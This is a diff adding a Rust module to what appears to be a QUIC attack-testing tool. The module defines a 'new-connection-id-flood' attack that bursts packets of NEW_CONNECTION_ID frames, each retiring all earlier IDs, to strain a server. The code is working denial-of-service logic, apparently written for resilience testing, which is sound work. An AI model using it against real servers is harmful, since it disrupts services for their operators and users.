@@ -1,0 +1,44 @@
+//! New connection IDs that retire the earlier ones.
+
+use courser_crypto::Space;
+use courser_wire::{ConnectionId, Frame, NewConnectionId};
+
+use crate::attack::{Plan, Victim};
+use crate::encode;
+
+use super::Crowd;
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "new-connection-id-flood",
+    labels: &["A30"],
+    summary: "NEW_CONNECTION_ID frames each of which retires all earlier ones",
+    victim: Victim::Server,
+    make: || Box::new(new_connection_id_flood()),
+};
+
+fn new_connection_id_flood() -> Crowd {
+    Crowd::new(2, |connection, progress, now| {
+        for _ in 0..BURST {
+            let mut frames = Vec::new();
+            for _ in 0..FRAMES {
+                progress.streams += 1;
+                let id = connection.rng().array::<8>();
+                let reset_token = connection.rng().array();
+                frames.push(encode(&Frame::NewConnectionId(NewConnectionId {
+                    sequence: progress.streams,
+                    retire_prior_to: progress.streams,
+                    id: ConnectionId::new(&id).expect("eight bytes fit"),
+                    reset_token,
+                })));
+            }
+            connection.send_packet(now, Space::Application, frames);
+        }
+    })
+}
+
+/// Packets of one connection in one turn.
+const BURST: usize = 8;
+
+/// Frames in one packet.
+const FRAMES: usize = 30;
